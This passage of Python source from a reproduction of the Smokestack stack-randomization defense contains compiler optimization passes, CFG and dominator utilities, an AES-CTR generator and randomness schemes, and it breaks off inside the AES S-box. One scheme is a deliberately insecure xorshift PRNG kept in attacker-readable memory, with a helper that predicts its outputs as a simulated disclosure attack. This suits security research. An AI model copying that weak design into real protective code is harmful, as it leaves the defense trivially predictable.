#: Smokestack experiments, so a separate knob controls it.
_PURE = (BinOp, Cmp, Cast, ElemPtr, FieldPtr, Select, Load, Phi)


def eliminate_function(function: Function, remove_dead_allocas: bool = False) -> int:
    """Remove dead instructions and unreachable blocks; returns removals."""
    removed = 0
    removed += _remove_unreachable_blocks(function)
    changed = True
    while changed:
        changed = False
        used: Set[int] = set()
        for inst in function.instructions():
            for operand in inst.operands:
                used.add(id(operand))
        for block in function.blocks:
            kept = []
            for inst in block.instructions:
                is_dead = (
                    isinstance(inst, _PURE)
                    and id(inst) not in used
                )
                if not is_dead and remove_dead_allocas:
                    is_dead = isinstance(inst, Alloca) and id(inst) not in used
                if is_dead:
                    removed += 1
                    changed = True
                else:
                    kept.append(inst)
            block.instructions = kept
    return removed


def _remove_unreachable_blocks(function: Function) -> int:
    reachable = reachable_blocks(function)
    dead_blocks = [b for b in function.blocks if b not in reachable]
    if not dead_blocks:
        return 0
    dead_set = set(dead_blocks)
    # Drop phi incomings that referenced removed predecessors.
    for block in function.blocks:
        if block in dead_set:
            continue
        for inst in block.instructions:
            if not isinstance(inst, Phi):
                break
            kept = [
                (value, pred)
                for value, pred in inst.incomings
                if pred not in dead_set
            ]
            if len(kept) != len(inst.incomings):
                inst.incomings = kept
                inst.operands = [value for value, _ in kept]
    function.blocks = [b for b in function.blocks if b in reachable]
    return len(dead_blocks)


def eliminate_module(module: Module, remove_dead_allocas: bool = False) -> int:
    return sum(
        eliminate_function(fn, remove_dead_allocas)
        for fn in module.functions.values()
    )
