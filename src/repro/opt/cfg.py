"""Control-flow graph utilities: successors/predecessors, reverse
postorder, dominator tree (Cooper-Harvey-Kennedy) and dominance frontiers.

These back the optimizer's SSA construction (mem2reg) and CFG cleanups.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

from repro.ir.instructions import Br, CondBr
from repro.ir.module import BasicBlock, Function


def successors(block: BasicBlock) -> List[BasicBlock]:
    """Successor blocks in branch order (duplicates collapsed)."""
    terminator = block.terminator()
    if isinstance(terminator, Br):
        return [terminator.target]
    if isinstance(terminator, CondBr):
        if terminator.true_target is terminator.false_target:
            return [terminator.true_target]
        return [terminator.true_target, terminator.false_target]
    return []


def predecessors(function: Function) -> Dict[BasicBlock, List[BasicBlock]]:
    """block -> predecessor list, in deterministic block order."""
    preds: Dict[BasicBlock, List[BasicBlock]] = {
        block: [] for block in function.blocks
    }
    for block in function.blocks:
        for successor in successors(block):
            preds[successor].append(block)
    return preds


def reachable_blocks(function: Function) -> Set[BasicBlock]:
    """Blocks reachable from the entry."""
    seen: Set[BasicBlock] = set()
    stack = [function.entry]
    while stack:
        block = stack.pop()
        if block in seen:
            continue
        seen.add(block)
        stack.extend(successors(block))
    return seen


def reverse_postorder(function: Function) -> List[BasicBlock]:
    """Reverse postorder over reachable blocks (entry first)."""
    order: List[BasicBlock] = []
    seen: Set[BasicBlock] = set()

    def visit(block: BasicBlock) -> None:
        # Iterative DFS with an explicit done-marker to get postorder.
        stack = [(block, iter(successors(block)))]
        seen.add(block)
        while stack:
            current, children = stack[-1]
            advanced = False
            for child in children:
                if child not in seen:
                    seen.add(child)
                    stack.append((child, iter(successors(child))))
                    advanced = True
                    break
            if not advanced:
                order.append(current)
                stack.pop()

    visit(function.entry)
    order.reverse()
    return order


class DominatorTree:
    """Immediate dominators per Cooper, Harvey & Kennedy (2001)."""

    def __init__(self, function: Function):
        self.function = function
        self.order = reverse_postorder(function)
        self._index = {block: i for i, block in enumerate(self.order)}
        self.idom: Dict[BasicBlock, Optional[BasicBlock]] = {}
        preds = predecessors(function)
        self._compute(preds)
        self.frontiers = self._dominance_frontiers(preds)

    def _compute(self, preds) -> None:
        entry = self.function.entry
        self.idom = {block: None for block in self.order}
        self.idom[entry] = entry
        changed = True
        while changed:
            changed = False
            for block in self.order:
                if block is entry:
                    continue
                candidates = [
                    p for p in preds[block]
                    if p in self._index and self.idom[p] is not None
                ]
                if not candidates:
                    continue
                new_idom = candidates[0]
                for other in candidates[1:]:
                    new_idom = self._intersect(new_idom, other)
                if self.idom[block] is not new_idom:
                    self.idom[block] = new_idom
                    changed = True

    def _intersect(self, a: BasicBlock, b: BasicBlock) -> BasicBlock:
        while a is not b:
            while self._index[a] > self._index[b]:
                a = self.idom[a]
            while self._index[b] > self._index[a]:
                b = self.idom[b]
        return a

    def _dominance_frontiers(self, preds) -> Dict[BasicBlock, Set[BasicBlock]]:
        frontiers: Dict[BasicBlock, Set[BasicBlock]] = {
            block: set() for block in self.order
        }
        for block in self.order:
            block_preds = [p for p in preds[block] if p in self._index]
            if len(block_preds) < 2:
                continue
            for pred in block_preds:
                runner = pred
                while runner is not self.idom[block]:
                    frontiers[runner].add(block)
                    runner = self.idom[runner]
        return frontiers

    def dominates(self, a: BasicBlock, b: BasicBlock) -> bool:
        """Does ``a`` dominate ``b``?"""
        runner = b
        while True:
            if runner is a:
                return True
            parent = self.idom.get(runner)
            if parent is runner or parent is None:
                return runner is a
            runner = parent

    def children(self) -> Dict[BasicBlock, List[BasicBlock]]:
        """Dominator-tree children (for renaming DFS)."""
        kids: Dict[BasicBlock, List[BasicBlock]] = {
            block: [] for block in self.order
        }
        for block in self.order:
            parent = self.idom[block]
            if parent is not None and parent is not block:
                kids[parent].append(block)
        return kids
