"""Optimization pipeline: the reproduction's -O1/-O2 analogue.

========  ==================================================================
level     passes
========  ==================================================================
``-O0``   nothing (the front-end's every-local-in-memory output)
``-O1``   DCE (unreachable blocks + dead pure code), constant folding,
          CFG simplification
``-O2``   -O1 plus **mem2reg** (scalars to SSA registers) and a second
          cleanup round
========  ==================================================================

The paper evaluates Smokestack on Clang ``-O2`` binaries, where most
scalars live in registers and the permutable frame holds buffers, spills
and address-taken locals.  ``optimize(module, level=2)`` reproduces that
input shape; the optimization-level ablation measures what it does to
Smokestack's entropy and overhead.
"""

from __future__ import annotations

from typing import Dict

from repro.ir.module import Module
from repro.ir.verifier import verify_module
from repro.opt.constfold import fold_module
from repro.opt.dce import eliminate_module
from repro.opt.mem2reg import promote_module
from repro.opt.simplifycfg import simplify_module


def optimize(module: Module, level: int = 2) -> Dict[str, int]:
    """Run the pipeline in place; returns per-pass work counters."""
    if level < 0 or level > 2:
        raise ValueError(f"optimization level must be 0..2, got {level}")
    stats = {"dce": 0, "constfold": 0, "simplifycfg": 0, "mem2reg": 0}
    if level == 0:
        return stats
    stats["dce"] += eliminate_module(module)
    stats["constfold"] += fold_module(module)
    stats["simplifycfg"] += simplify_module(module)
    if level >= 2:
        stats["mem2reg"] += promote_module(module)
        stats["constfold"] += fold_module(module)
        stats["dce"] += eliminate_module(module, remove_dead_allocas=True)
        stats["simplifycfg"] += simplify_module(module)
    verify_module(module)
    # The module was rewritten in place: invalidate identity-keyed caches
    # (the VM's alloca layouts and predecoded blocks key on this token).
    module.bump_version()
    return stats
