"""CFG simplification: merge trivial straight-line block chains.

A block whose single successor has no other predecessors (and no phis)
can absorb it; repeatedly applying this collapses the block soup the
structured lowering produces into tighter functions.
"""

from __future__ import annotations

from repro.ir.instructions import Br, Phi
from repro.ir.module import Function, Module
from repro.opt.cfg import predecessors


def _replace_trivial_phis(function: Function) -> int:
    """Replace single-incoming phis (left by branch folding) with their value."""
    replaced = 0
    changed = True
    while changed:
        changed = False
        replacements = {}
        for block in function.blocks:
            for inst in block.instructions:
                if not isinstance(inst, Phi):
                    break
                if len(inst.incomings) == 1:
                    replacements[inst] = inst.incomings[0][0]
        if not replacements:
            break
        changed = True
        replaced += len(replacements)

        def resolve(value):
            while value in replacements:
                value = replacements[value]
            return value

        for block in function.blocks:
            block.instructions = [
                inst for inst in block.instructions
                if inst not in replacements
            ]
            for inst in block.instructions:
                for position, operand in enumerate(inst.operands):
                    inst.operands[position] = resolve(operand)
                if isinstance(inst, Phi):
                    for index, (value, _) in enumerate(list(inst.incomings)):
                        inst.replace_incoming_value(index, resolve(value))
    return replaced


def simplify_function(function: Function) -> int:
    """Merge single-entry/single-exit chains; returns simplifications."""
    merged = _replace_trivial_phis(function)
    changed = True
    while changed:
        changed = False
        preds = predecessors(function)
        for block in list(function.blocks):
            terminator = block.terminator()
            if not isinstance(terminator, Br):
                continue
            target = terminator.target
            if target is block or target is function.entry:
                continue
            if len(preds[target]) != 1:
                continue
            if any(isinstance(inst, Phi) for inst in target.instructions):
                continue
            # Absorb: drop our Br, append the target's instructions.
            block.instructions.pop()
            for inst in target.instructions:
                inst.block = block
                block.instructions.append(inst)
            function.blocks.remove(target)
            # Phis elsewhere referencing `target` as a predecessor now see
            # `block` instead.
            for other in function.blocks:
                for inst in other.instructions:
                    if not isinstance(inst, Phi):
                        break
                    inst.incomings = [
                        (value, block if pred is target else pred)
                        for value, pred in inst.incomings
                    ]
            merged += 1
            changed = True
            break  # predecessor map is stale; recompute
    return merged


def simplify_module(module: Module) -> int:
    return sum(simplify_function(fn) for fn in module.functions.values())
