"""Optimizer: SSA mem2reg, constant folding, DCE and CFG simplification.

The ``-O2`` analogue that reshapes the front-end's every-local-in-memory
output into the register-resident form the paper's testbed hardened.
"""

from repro.opt.cfg import (
    DominatorTree,
    predecessors,
    reachable_blocks,
    reverse_postorder,
    successors,
)
from repro.opt.constfold import fold_function, fold_module
from repro.opt.dce import eliminate_function, eliminate_module
from repro.opt.mem2reg import promotable_allocas, promote, promote_module
from repro.opt.pipeline import optimize
from repro.opt.simplifycfg import simplify_function, simplify_module

__all__ = [
    "DominatorTree",
    "eliminate_function",
    "eliminate_module",
    "fold_function",
    "fold_module",
    "optimize",
    "predecessors",
    "promotable_allocas",
    "promote",
    "promote_module",
    "reachable_blocks",
    "reverse_postorder",
    "simplify_function",
    "simplify_module",
    "successors",
]
