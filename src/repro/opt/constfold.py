"""Constant folding: evaluate instructions whose operands are constants.

Folds integer/float arithmetic, comparisons and casts using the exact
semantics of the VM (shared helpers), plus branch folding: a conditional
branch on a constant becomes an unconditional one.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.errors import VMError, VMTrap
from repro.ir.instructions import BinOp, Br, Cast, Cmp, CondBr, Instruction, Phi, Select
from repro.ir.module import Function, Module
from repro.ir.values import Constant, Value
from repro.vm.interpreter import _apply_binop, _apply_cast, _apply_cmp


def _fold_instruction(inst: Instruction) -> Optional[Constant]:
    """Return the constant an instruction folds to, or None."""
    operands = inst.operands
    if not all(isinstance(op, Constant) for op in operands):
        return None
    try:
        if isinstance(inst, BinOp):
            value = _apply_binop(
                inst.op, operands[0].value, operands[1].value, inst.ctype
            )
            return Constant(inst.ctype, value)
        if isinstance(inst, Cmp):
            value = _apply_cmp(
                inst.op, operands[0].value, operands[1].value, operands[0].ctype
            )
            return Constant(inst.ctype, value)
        if isinstance(inst, Cast):
            value = _apply_cast(
                inst.kind, operands[0].value, operands[0].ctype, inst.ctype
            )
            return Constant(inst.ctype, value)
        if isinstance(inst, Select):
            cond, a, b = operands
            return a if cond.value else b
    except (VMTrap, VMError, OverflowError, ValueError):
        # Division by zero etc.: leave it for runtime to trap.
        return None
    return None


def fold_function(function: Function) -> int:
    """Iteratively fold constants; returns the number of folds."""
    folded_total = 0
    changed = True
    while changed:
        changed = False
        replacements: Dict[Instruction, Constant] = {}
        for inst in function.instructions():
            constant = _fold_instruction(inst)
            if constant is not None:
                replacements[inst] = constant
        if replacements:
            changed = True
            folded_total += len(replacements)
            for block in function.blocks:
                block.instructions = [
                    inst for inst in block.instructions
                    if inst not in replacements
                ]
                for inst in block.instructions:
                    for position, operand in enumerate(inst.operands):
                        if operand in replacements:
                            inst.operands[position] = replacements[operand]
                    if isinstance(inst, Phi):
                        for index, (value, _) in enumerate(list(inst.incomings)):
                            if value in replacements:
                                inst.replace_incoming_value(
                                    index, replacements[value]
                                )
        # Branch folding: constant conditions become plain branches.
        for block in function.blocks:
            terminator = block.terminator()
            if isinstance(terminator, CondBr) and isinstance(
                terminator.cond, Constant
            ):
                target = (
                    terminator.true_target
                    if terminator.cond.value
                    else terminator.false_target
                )
                dropped = (
                    terminator.false_target
                    if terminator.cond.value
                    else terminator.true_target
                )
                block.instructions.pop()
                replacement = Br(target)
                replacement.block = block
                block.instructions.append(replacement)
                _remove_phi_incomings(dropped, block)
                changed = True
                folded_total += 1
    return folded_total


def _remove_phi_incomings(block, from_block) -> None:
    """Strip phi incomings for an edge that no longer exists."""
    for inst in block.instructions:
        if not isinstance(inst, Phi):
            break
        kept = [
            (value, pred) for value, pred in inst.incomings if pred is not from_block
        ]
        if len(kept) != len(inst.incomings):
            inst.incomings = kept
            inst.operands = [value for value, _ in kept]


def fold_module(module: Module) -> int:
    return sum(fold_function(fn) for fn in module.functions.values())
