"""mem2reg: promote scalar stack slots to SSA registers.

The front-end lowers every local through memory (clang -O0 style); this
pass rebuilds what ``-O2`` gives the paper's testbed: scalars whose
address never escapes live in virtual registers, leaving only
address-taken locals and aggregates on the stack.  Classic minimal-SSA
construction — phis at the iterated dominance frontier of each promoted
variable's definition blocks, then a renaming walk over the dominator
tree.

The pass matters to Smokestack directly: the fewer allocas survive, the
fewer slots there are to permute — the optimization-level ablation
(benchmarks/test_ablation_optlevel.py) quantifies the entropy and
overhead consequences.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

from repro.ir.instructions import Alloca, Instruction, Load, Phi, Store
from repro.ir.module import BasicBlock, Function, Module
from repro.ir.values import Constant, Value
from repro.minic import types as ct
from repro.opt.cfg import DominatorTree, predecessors, reachable_blocks


def promotable_allocas(function: Function) -> List[Alloca]:
    """Static scalar allocas whose address never escapes.

    An alloca is promotable when every use is a ``load`` from it or a
    ``store`` *to* it (never storing the pointer itself, passing it to a
    call, GEP-ing it, casting it...).
    """
    candidates = {
        alloca: True
        for alloca in function.static_allocas()
        if alloca.allocated_type.is_scalar()
    }
    if not candidates:
        return []
    for inst in function.instructions():
        if isinstance(inst, Load):
            continue  # loads use the pointer harmlessly
        for position, operand in enumerate(inst.operands):
            if operand in candidates:
                is_store_target = (
                    isinstance(inst, Store) and position == 1
                )
                if not is_store_target:
                    candidates[operand] = False
    return [alloca for alloca, ok in candidates.items() if ok]


def promote(function: Function) -> int:
    """Run mem2reg on ``function``; returns the number of promoted slots."""
    allocas = promotable_allocas(function)
    if not allocas:
        return 0
    reachable = reachable_blocks(function)
    tree = DominatorTree(function)
    preds = predecessors(function)
    alloca_set = set(allocas)

    # 1. Phi placement at iterated dominance frontiers.
    phis: Dict[Phi, Alloca] = {}
    for alloca in allocas:
        def_blocks = {
            inst.block
            for inst in function.instructions()
            if isinstance(inst, Store)
            and inst.pointer is alloca
            and inst.block in reachable
        }
        placed: Set[BasicBlock] = set()
        work = list(def_blocks)
        while work:
            block = work.pop()
            for frontier_block in tree.frontiers.get(block, ()):
                if frontier_block in placed:
                    continue
                placed.add(frontier_block)
                phi = Phi(alloca.allocated_type)
                phi.name = function.next_value_name(
                    (alloca.var_name or "v") + ".phi"
                )
                phi.block = frontier_block
                frontier_block.instructions.insert(0, phi)
                phis[phi] = alloca
                if frontier_block not in def_blocks:
                    work.append(frontier_block)

    # 2. Renaming over the dominator tree.
    children = tree.children()
    replacements: Dict[Instruction, Value] = {}
    dead: Set[Instruction] = set()

    def undef_value(alloca: Alloca) -> Value:
        value_type = alloca.allocated_type
        if value_type.is_float():
            return Constant(value_type, 0.0)
        return Constant(value_type, 0)

    def rename(block: BasicBlock, incoming: Dict[Alloca, Value]) -> None:
        current = dict(incoming)
        for inst in list(block.instructions):
            if isinstance(inst, Phi) and inst in phis:
                current[phis[inst]] = inst
            elif isinstance(inst, Alloca) and inst in alloca_set:
                dead.add(inst)
            elif isinstance(inst, Load) and inst.pointer in alloca_set:
                alloca = inst.pointer
                value = current.get(alloca)
                if value is None:
                    value = undef_value(alloca)
                replacements[inst] = value
                dead.add(inst)
            elif isinstance(inst, Store) and inst.pointer in alloca_set:
                current[inst.pointer] = inst.value
                dead.add(inst)
        # Fill phi incomings of successors.
        from repro.opt.cfg import successors

        for successor in successors(block):
            for inst in successor.instructions:
                if not isinstance(inst, Phi):
                    break
                if inst in phis:
                    alloca = phis[inst]
                    value = current.get(alloca)
                    if value is None:
                        value = undef_value(alloca)
                    inst.add_incoming(value, block)
        for child in children.get(block, ()):
            rename(child, current)

    rename(function.entry, {})

    # 3. Resolve replacement chains (a load replaced by another dead load).
    def resolve(value: Value) -> Value:
        seen = set()
        while isinstance(value, Instruction) and value in replacements:
            if id(value) in seen:
                break
            seen.add(id(value))
            value = replacements[value]
        return value

    for block in function.blocks:
        for inst in block.instructions:
            for position, operand in enumerate(inst.operands):
                resolved = resolve(operand)
                if resolved is not operand:
                    inst.operands[position] = resolved
            if isinstance(inst, Phi):
                for index, (value, pred_block) in enumerate(list(inst.incomings)):
                    resolved = resolve(value)
                    if resolved is not value:
                        inst.replace_incoming_value(index, resolved)

    # 4. Delete the dead allocas/loads/stores.
    for block in function.blocks:
        block.instructions = [
            inst for inst in block.instructions if inst not in dead
        ]

    return len(allocas)


def promote_module(module: Module) -> int:
    """Run mem2reg on every function; returns total promoted slots."""
    return sum(promote(fn) for fn in module.functions.values())
