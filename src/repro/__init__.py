"""Smokestack reproduction: runtime stack-layout randomization vs DOP.

Reproduction of *"Smokestack: Thwarting DOP Attacks with Runtime Stack
Layout Randomization"* (Aga & Austin, CGO 2019) as a self-contained
Python system: a Mini-C compiler, a typed IR, a byte-accurate virtual
machine, the Smokestack hardening passes, the prior defenses the paper
compares against, the DOP attack suite (synthetic + CVE analogues), and
the benchmark harness regenerating the paper's tables and figures.

Quick start::

    from repro import harden_source, SmokestackConfig

    hardened = harden_source(C_SOURCE, SmokestackConfig(scheme="aes-10"))
    result = hardened.make_machine(inputs=[b"hello"]).run()
    print(result.exit_code, result.int_outputs)

See README.md for the architecture overview, DESIGN.md for the system
inventory, and EXPERIMENTS.md for paper-vs-measured results.
"""

from repro.core import (
    HardenedProgram,
    SmokestackConfig,
    compile_source,
    harden_module,
    harden_source,
    instrument_module,
)
from repro.errors import (
    AttackError,
    BenchmarkError,
    FrontendError,
    IRError,
    LexError,
    LoweringError,
    ParseError,
    ReproError,
    SecurityViolation,
    SemanticError,
    VerifierError,
    VMError,
    VMFault,
    VMLimitExceeded,
    VMTrap,
)
from repro.vm import ExecutionResult, Machine

__version__ = "1.0.0"

__all__ = [
    "AttackError",
    "BenchmarkError",
    "ExecutionResult",
    "FrontendError",
    "HardenedProgram",
    "IRError",
    "LexError",
    "LoweringError",
    "Machine",
    "ParseError",
    "ReproError",
    "SecurityViolation",
    "SemanticError",
    "SmokestackConfig",
    "VMError",
    "VMFault",
    "VMLimitExceeded",
    "VMTrap",
    "VerifierError",
    "compile_source",
    "harden_module",
    "harden_source",
    "instrument_module",
    "__version__",
]
