"""Randomness substrate: AES-128, CTR generation, entropy, and the four
randomness schemes the paper evaluates (pseudo / AES-1 / AES-10 / RDRAND).
"""

from repro.rng.aes import AES128, STANDARD_ROUNDS, encrypt_block, expand_key
from repro.rng.ctr import AesCtrGenerator
from repro.rng.entropy import DeterministicEntropy, EntropySource, SystemEntropy
from repro.rng.sources import (
    PSEUDO_STATE_GLOBAL,
    SCHEME_NAMES,
    AesSource,
    PseudoSource,
    RandomSource,
    RdrandSource,
    make_source,
    table1_rows,
    xorshift64_step,
)

__all__ = [
    "AES128",
    "AesCtrGenerator",
    "AesSource",
    "DeterministicEntropy",
    "EntropySource",
    "PSEUDO_STATE_GLOBAL",
    "PseudoSource",
    "RandomSource",
    "RdrandSource",
    "SCHEME_NAMES",
    "STANDARD_ROUNDS",
    "SystemEntropy",
    "encrypt_block",
    "expand_key",
    "make_source",
    "table1_rows",
    "xorshift64_step",
]
