"""AES counter-mode random number generation (paper §III-D.1).

The generator encrypts ``nonce || counter`` under a true-random key.  Two
details reproduce the paper's design faithfully:

* the **universal call counter** — Smokestack counts function calls
  process-wide and feeds that count into the counter block, so every
  function invocation draws a distinct index without storing generator
  output anywhere the attacker could read;
* **periodic reseeding** — when the call counter advances past
  ``reseed_interval`` invocations since the last seed, a fresh key and
  nonce are drawn from the true-random source, bounding how much
  ciphertext any one key produces.

Key, nonce and schedule live only in host-side object attributes — the
analogue of registers, which the threat model (§III-B) places outside the
attacker's reach.
"""

from __future__ import annotations

from typing import Optional

from repro.rng.aes import AES128, STANDARD_ROUNDS
from repro.rng.entropy import EntropySource, SystemEntropy

DEFAULT_RESEED_INTERVAL = 1 << 16


class AesCtrGenerator:
    """Disclosure-resistant pseudo-random 64-bit values via AES-CTR."""

    def __init__(
        self,
        entropy: Optional[EntropySource] = None,
        rounds: int = STANDARD_ROUNDS,
        reseed_interval: int = DEFAULT_RESEED_INTERVAL,
        implementation: str = "fast",
    ):
        """``implementation`` selects the block cipher path: ``"fast"``
        (T-tables, production) or ``"reference"`` (byte-level FIPS-197).
        Both consume the entropy stream identically, so two generators
        built from the same deterministic entropy must emit the same
        values — the differential fuzzer's AES oracle checks exactly
        that, including across reseed boundaries.
        """
        if reseed_interval <= 0:
            raise ValueError("reseed_interval must be positive")
        if implementation not in ("fast", "reference"):
            raise ValueError(
                f"implementation must be 'fast' or 'reference', "
                f"got {implementation!r}"
            )
        self._entropy = entropy or SystemEntropy()
        self._rounds = rounds
        self._reseed_interval = reseed_interval
        self._implementation = implementation
        self._cipher: Optional[AES128] = None
        self._nonce = b""
        self._last_value = 0
        self._seeded_at_counter = 0
        self.reseed_count = 0
        self._reseed(counter=0)

    @property
    def rounds(self) -> int:
        return self._rounds

    def _reseed(self, counter: int) -> None:
        key = self._entropy.read(16)
        self._nonce = self._entropy.read(8)
        self._cipher = AES128(key, self._rounds)
        self._last_value = int.from_bytes(self._entropy.read(8), "little")
        self._seeded_at_counter = counter
        self.reseed_count += 1

    def generate(self, call_counter: int) -> int:
        """Produce the random value for function invocation ``call_counter``.

        Per the paper, the block encrypts the last generated value as the
        initial value with the universal call counter as the counter.
        """
        if call_counter - self._seeded_at_counter >= self._reseed_interval:
            self._reseed(call_counter)
        block = self._nonce + (
            (call_counter ^ self._last_value) & ((1 << 64) - 1)
        ).to_bytes(8, "little")
        if self._implementation == "fast":
            ciphertext = self._cipher.encrypt(block)
        else:
            ciphertext = self._cipher.encrypt_reference(block)
        value = int.from_bytes(ciphertext[:8], "little")
        self._last_value = value
        return value
