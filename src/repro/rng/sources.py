"""The four randomness schemes evaluated in the paper (Table I).

=========  ========  ==========================  =====================
source     security  state location              cycles / invocation
=========  ========  ==========================  =====================
pseudo     none      guest data segment (!)      3.4
AES-1      low       host attrs ("registers")    19.2
AES-10     high      host attrs ("registers")    92.8
RDRAND     high      none (true random)          265.6
=========  ========  ==========================  =====================

``pseudo`` keeps its xorshift64 state in an attacker-writable global —
the paper includes it purely as a performance baseline because any
memory-disclosing attacker can read (or set) the state and predict every
future permutation index; :meth:`PseudoSource.predict_from_state` is the
attack tooling's implementation of exactly that.

The AES cycle costs follow a per-round model calibrated to land on the
paper's measured rates for 1 and 10 rounds; RDRAND's cost models the
bandwidth limit of the on-chip generator the paper observed.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from repro.errors import VMError
from repro.rng.ctr import DEFAULT_RESEED_INTERVAL, AesCtrGenerator
from repro.rng.entropy import EntropySource, SystemEntropy

#: Name of the guest global holding the insecure PRNG's state.  The
#: hardening pipeline adds this global to every instrumented module so the
#: pseudo scheme (and only it) has memory-resident state to leak.
PSEUDO_STATE_GLOBAL = "__ss_prng_state"

#: Table I rates (cycles per invocation).
PSEUDO_CYCLES = 3.4
RDRAND_CYCLES = 265.6
AES_ROUND_CYCLES = (92.8 - 19.2) / 9  # per-round marginal cost
AES_BASE_CYCLES = 19.2 - AES_ROUND_CYCLES  # whitening + block assembly

_U64 = (1 << 64) - 1
_PSEUDO_DEFAULT_SEED = 0x853C49E6748FEA9B


class RandomSource:
    """Interface the VM's ``__ss_rand`` builtin calls."""

    #: short name used in reports ("pseudo", "aes-1", "aes-10", "rdrand")
    name = "abstract"
    #: security label per Table I ("none", "low", "high")
    security = "none"
    #: deterministic cost charged per invocation
    cycles_per_call = 0.0

    def generate(self, machine) -> int:
        """Return the next 64-bit permutation index for ``machine``."""
        raise NotImplementedError

    def reset(self) -> None:
        """Forget per-process state (called between runs if reused)."""


def xorshift64_step(state: int) -> int:
    """One step of xorshift64 — the insecure generator, exposed so that
    attack code can replicate it after disclosing the state."""
    state &= _U64
    state ^= (state << 13) & _U64
    state ^= state >> 7
    state ^= (state << 17) & _U64
    return state & _U64


class PseudoSource(RandomSource):
    """Memory-based xorshift64: fast and completely unsafe.

    State lives in the guest global ``__ss_prng_state``; an attacker with
    a read primitive recovers it and predicts every future index, and one
    with a write primitive can pin the layout outright.
    """

    name = "pseudo"
    security = "none"
    cycles_per_call = PSEUDO_CYCLES

    def generate(self, machine) -> int:
        try:
            address = machine.image.address_of_global(PSEUDO_STATE_GLOBAL)
        except VMError:
            raise VMError(
                f"pseudo RNG requires the '{PSEUDO_STATE_GLOBAL}' global; "
                "harden the module with scheme='pseudo'"
            ) from None
        state = machine.memory.read_int(address, 8, signed=False)
        if state == 0:
            state = _PSEUDO_DEFAULT_SEED
        state = xorshift64_step(state)
        machine.memory.write_int(address, state, 8)
        return state

    @staticmethod
    def predict_from_state(state: int, steps: int = 1) -> Tuple[int, int]:
        """(value at `steps` ahead, state afterwards) — the disclosure attack."""
        if state == 0:
            state = _PSEUDO_DEFAULT_SEED
        value = state
        for _ in range(steps):
            value = xorshift64_step(value)
        return value, value


class AesSource(RandomSource):
    """AES-CTR with key/nonce in registers, seeded from true randomness."""

    security = "low"

    def __init__(
        self,
        rounds: int,
        entropy: Optional[EntropySource] = None,
        reseed_interval: int = DEFAULT_RESEED_INTERVAL,
    ):
        self.rounds = rounds
        self.name = f"aes-{rounds}"
        self.security = "high" if rounds >= 10 else "low"
        self.cycles_per_call = AES_BASE_CYCLES + AES_ROUND_CYCLES * rounds
        self._entropy = entropy or SystemEntropy()
        self._reseed_interval = reseed_interval
        self._generator = AesCtrGenerator(
            self._entropy, rounds=rounds, reseed_interval=reseed_interval
        )

    def generate(self, machine) -> int:
        return self._generator.generate(machine.universal_call_counter)

    def reset(self) -> None:
        self._generator = AesCtrGenerator(
            self._entropy, rounds=self.rounds, reseed_interval=self._reseed_interval
        )


class RdrandSource(RandomSource):
    """A fresh true-random value per invocation (the RDRAND experiment)."""

    name = "rdrand"
    security = "high"
    cycles_per_call = RDRAND_CYCLES

    def __init__(self, entropy: Optional[EntropySource] = None):
        self._entropy = entropy or SystemEntropy()

    def generate(self, machine) -> int:
        return self._entropy.read_u64()


#: The four experiment configurations of Figures 3/4 and Table I.
SCHEME_NAMES = ("pseudo", "aes-1", "aes-10", "rdrand")


def make_source(name: str, entropy: Optional[EntropySource] = None) -> RandomSource:
    """Factory for the paper's four schemes ('pseudo', 'aes-1', 'aes-10',
    'rdrand'); 'aes-N' accepts any round count 1..10."""
    lowered = name.lower()
    if lowered == "pseudo":
        return PseudoSource()
    if lowered == "rdrand":
        return RdrandSource(entropy)
    if lowered.startswith("aes-"):
        try:
            rounds = int(lowered[4:])
        except ValueError:
            raise ValueError(f"bad AES scheme name '{name}'") from None
        return AesSource(rounds, entropy)
    raise ValueError(
        f"unknown randomness scheme '{name}'; expected one of {SCHEME_NAMES}"
    )


def table1_rows() -> Dict[str, Dict[str, object]]:
    """Static description of Table I used by the benchmark harness."""
    return {
        "pseudo": {"security": "None", "cycles": PSEUDO_CYCLES},
        "AES-1": {"security": "Low", "cycles": AES_BASE_CYCLES + AES_ROUND_CYCLES},
        "AES-10": {"security": "High", "cycles": AES_BASE_CYCLES + AES_ROUND_CYCLES * 10},
        "RDRAND": {"security": "High", "cycles": RDRAND_CYCLES},
    }
