"""Pure-Python AES-128 block cipher with a configurable round count.

This is the reproduction of the paper's AES-NI-accelerated generator
(§III-D.1): Smokestack encrypts a counter under a true-random key to get a
disclosure-resistant pseudo-random permutation index.  The paper evaluates
both the standard 10-round AES-128 ("AES-10", high security) and a
weakened 1-round variant ("AES-1", low security but faster); the
``rounds`` parameter reproduces that trade-off.

Two implementations live side by side:

* :func:`encrypt_block` — the textbook FIPS-197 construction (SubBytes,
  ShiftRows, MixColumns, AddRoundKey, byte by byte).  It is the
  *reference*: validated against the FIPS-197 appendix vector in the
  test suite, and used to cross-check the fast path.
* :class:`AES128` / :func:`encrypt_block_fast` — the T-table
  formulation every serious software AES uses: SubBytes + ShiftRows +
  MixColumns for one round collapse into four 256-entry tables of
  packed 32-bit column words, so a round is 16 table lookups and XORs
  instead of ~80 per-byte GF(2^8) operations.  The final round (no
  MixColumns) uses the plain S-box.

Key schedules are cached at module level keyed by ``(key, rounds)`` —
CTR mode reseeds periodically but encrypts many blocks per key, and the
Smokestack harness builds many generators from the same deterministic
entropy stream, so the same key must never be expanded twice.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

# S-box (FIPS-197 figure 7).
SBOX = bytes(
    int(x, 16)
    for x in (
        "63 7c 77 7b f2 6b 6f c5 30 01 67 2b fe d7 ab 76 "
        "ca 82 c9 7d fa 59 47 f0 ad d4 a2 af 9c a4 72 c0 "
        "b7 fd 93 26 36 3f f7 cc 34 a5 e5 f1 71 d8 31 15 "
        "04 c7 23 c3 18 96 05 9a 07 12 80 e2 eb 27 b2 75 "
        "09 83 2c 1a 1b 6e 5a a0 52 3b d6 b3 29 e3 2f 84 "
        "53 d1 00 ed 20 fc b1 5b 6a cb be 39 4a 4c 58 cf "
        "d0 ef aa fb 43 4d 33 85 45 f9 02 7f 50 3c 9f a8 "
        "51 a3 40 8f 92 9d 38 f5 bc b6 da 21 10 ff f3 d2 "
        "cd 0c 13 ec 5f 97 44 17 c4 a7 7e 3d 64 5d 19 73 "
        "60 81 4f dc 22 2a 90 88 46 ee b8 14 de 5e 0b db "
